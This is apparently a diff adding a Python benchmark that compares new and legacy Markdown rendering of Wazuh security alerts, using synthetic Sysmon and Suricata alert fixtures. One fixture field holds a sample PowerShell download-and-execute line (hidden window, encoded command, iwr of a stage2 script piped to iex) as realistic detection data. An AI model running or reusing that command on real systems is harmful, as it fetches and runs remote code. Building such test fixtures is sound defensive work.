@@ -0,0 +1,162 @@
+#!/usr/bin/env python3
+"""Compare the w2thive alert flattening + Markdown rendering against the old pr()/md_format().
+
+Builds Sysmon- and Suricata-shaped Wazuh alerts (plus a synthetic "wide"
+alert with --fields extra eventdata fields) and times both implementations.
+
+Usage: python scripts/bench_w2thive_format.py [--fields 2000] [--rounds 200]
+"""
+import argparse
+import os
+import sys
+import time
+
+ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
+sys.path.insert(0, os.path.join(ROOT, "ansible", "roles", "wazuh_thehive_integration", "files"))
+
+from w2thive_format import flatten_alert, md_format  # noqa: E402
+
+
+def legacy_pr(data, prefix, alt):
+    for key, value in data.items():
+        if hasattr(value, "keys"):
+            legacy_pr(value, prefix + "." + str(key), alt=alt)
+        else:
+            alt.append((prefix + "." + str(key) + "|||" + str(value)))
+    return alt
+
+
+def legacy_md_format(alt, format_alt=""):
+    md_title_dict = {}
+    for now in alt:
+        now = now[1:]
+        dot = now.split("|||")[0].find(".")
+        if dot == -1:
+            md_title_dict[now.split("|||")[0]] = [now]
+        else:
+            if now[0:dot] in md_title_dict.keys():
+                (md_title_dict[now[0:dot]]).append(now)
+            else:
+                md_title_dict[now[0:dot]] = [now]
+    for now in md_title_dict.keys():
+        format_alt += "### " + now.capitalize() + "\n" + "| key | val |\n| ------ | ------ |\n"
+        for let in md_title_dict[now]:
+            key, val = let.split("|||")[0], let.split("|||")[1]
+            format_alt += "| **" + key + "** | " + val + " |\n"
+    return format_alt
+
+
+def base_alert(rule_id: str, level: int, description: str, groups: list[str]) -> dict:
+    return {
+        "timestamp": "2026-10-19T10:15:42.123+0000",
+        "rule": {
+            "level": level, "description": description, "id": rule_id, "firedtimes": 3, "mail": False,
+            "groups": groups, "mitre": {"id": ["T1059.001"], "tactic": ["Execution"], "technique": ["PowerShell"]},
+        },
+        "agent": {"id": "003", "name": "WIN-01-WS", "ip": "172.16.10.21"},
+        "manager": {"name": "XDR-01-SRV"},
+        "id": "1760868942.1234567",
+        "decoder": {"name": "windows_eventchannel"},
+        "location": "EventChannel",
+    }
+
+
+def sysmon_alert(extra_fields: int = 0) -> dict:
+    alert = base_alert("92052", 12, "Powershell process spawned with encoded command", ["windows", "sysmon", "sysmon_eid1_detections"])
+    eventdata = {
+        "utcTime": "2026-10-19 10:15:41.998", "processGuid": "{4f1d8a7c-2b1e-6718-5a04-000000000f00}",
+        "processId": "6144", "image": "C:\\\\Windows\\\\System32\\\\WindowsPowerShell\\\\v1.0\\\\powershell.exe",
+        "fileVersion": "10.0.19041.3996", "description": "Windows PowerShell", "product": "Microsoft Windows",
+        "company": "Microsoft Corporation", "originalFileName": "PowerShell.EXE",
+        "commandLine": "powershell -nop -w hidden -enc SQBFAFgA | Out-Null; iwr http://198.51.100.7/stage2.ps1 | iex",
+        "currentDirectory": "C:\\\\Users\\\\alice\\\\", "user": "FROSTSEC\\\\alice", "logonGuid": "{4f1d8a7c-0000-0000-0000-000000000000}",
+        "logonId": "0x4a3b2", "terminalSessionId": "1", "integrityLevel": "High",
+        "hashes": "SHA1=6CBCE4A295C163791B60FC23D285E6D84F28EE4C,MD5=7353F60B1739074EB17C5F4DDDEFE239,SHA256=DE96A6E69944335375DC1AC238336066889D9FFC7D73628EF4FE1B1B160AB32C",
+        "parentProcessGuid": "{4f1d8a7c-2b1e-6718-5904-000000000f00}", "parentProcessId": "5120",
+        "parentImage": "C:\\\\Windows\\\\explorer.exe", "parentCommandLine": "C:\\\\Windows\\\\Explorer.EXE", "parentUser": "FROSTSEC\\\\alice",
+    }
+    for i in range(extra_fields):
+        eventdata[f"field{i:04d}"] = f"value {i} with | pipe" if i % 10 == 0 else f"value-{i}"
+    alert["data"] = {
+        "win": {
+            "system": {
+                "providerName": "Microsoft-Windows-Sysmon", "providerGuid": "{5770385f-c22a-43e0-bf4c-06f5698ffbd9}",
+                "eventID": "1", "version": "5", "level": "4", "task": "1", "opcode": "0", "keywords": "0x8000000000000000",
+                "systemTime": "2026-10-19T10:15:41.9987654Z", "eventRecordID": "884213", "processID": "3016",
+                "threadID": "4120", "channel": "Microsoft-Windows-Sysmon/Operational", "computer": "WIN-01-WS.frostsec.corp",
+                "severityValue": "INFORMATION", "message": "\"Process Create:\r\nRuleName: technique_id=T1059.001\"",
+            },
+            "eventdata": eventdata,
+        }
+    }
+    return alert
+
+
+def suricata_alert() -> dict:
+    alert = base_alert("86601", 3, "Suricata: Alert - ET POLICY curl User-Agent Outbound", ["ids", "suricata"])
+    alert["agent"] = {"id": "005", "name": "SOC-01-SRV", "ip": "172.16.10.40"}
+    alert["decoder"] = {"name": "json"}
+    alert["data"] = {
+        "timestamp": "2026-10-19T10:15:42.001234+0000", "flow_id": "1812394871623410", "in_iface": "ens18",
+        "event_type": "alert", "src_ip": "172.16.10.31", "src_port": "51544", "dest_ip": "203.0.113.50", "dest_port": "80",
+        "proto": "TCP", "pkt_src": "wire/pcap", "tx_id": "0",
+        "alert": {
+            "action": "allowed", "gid": "1", "signature_id": "2013028", "rev": "7",
+            "signature": "ET POLICY curl User-Agent Outbound", "category": "Attempted Information Leak", "severity": "2",
+            "metadata": {
+                "created_at": ["2011_06_14"], "updated_at": ["2024_03_05"], "signature_severity": ["Informational"],
+                "tag": ["User_Agent", "Policy"],
+            },
+        },
+        "http": {
+            "hostname": "updates.example.net", "url": "/agent/v2/download?id=abc|def", "http_user_agent": "curl/8.5.0",
+            "http_content_type": "application/octet-stream", "http_method": "GET", "protocol": "HTTP/1.1", "status": "200",
+            "length": "48213",
+        },
+        "app_proto": "http",
+        "flow": {
+            "pkts_toserver": "6", "pkts_toclient": "38", "bytes_toserver": "512", "bytes_toclient": "51230",
+            "start": "2026-10-19T10:15:41.912345+0000", "src_ip": "172.16.10.31", "dest_ip": "203.0.113.50",
+            "src_port": "51544", "dest_port": "80",
+        },
+        "files": [{"filename": "/agent/v2/download", "size": 48213, "state": "CLOSED", "stored": False}],
+    }
+    return alert
+
+
+def time_it(func, alert: dict, rounds: int) -> float:
+    best = float("inf")
+    for _ in range(rounds):
+        start = time.perf_counter()
+        func(alert)
+        best = min(best, time.perf_counter() - start)
+    return best
+
+
+def main():
+    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
+    parser.add_argument("--fields", type=int, default=2000, help="Extra eventdata fields in the wide alert")
+    parser.add_argument("--rounds", type=int, default=200)
+    args = parser.parse_args()
+
+    def legacy(alert):
+        return legacy_md_format(legacy_pr(alert, "", []))
+
+    def current(alert):
+        return md_format(flatten_alert(alert))
+
+    cases = [
+        ("sysmon", sysmon_alert()),
+        ("suricata", suricata_alert()),
+        (f"wide ({args.fields} fields)", sysmon_alert(args.fields)),
+    ]
+    print(f"{'alert':<22} {'fields':>7} {'legacy':>10} {'current':>10} {'speedup':>8}")
+    for name, alert in cases:
+        fields = sum(1 for _ in flatten_alert(alert))
+        old = time_it(legacy, alert, args.rounds)
+        new = time_it(current, alert, args.rounds)
+        print(f"{name:<22} {fields:>7} {old * 1e6:>8.0f}us {new * 1e6:>8.0f}us {old / new:>7.1f}x")
+
+
+if __name__ == "__main__":
+    main()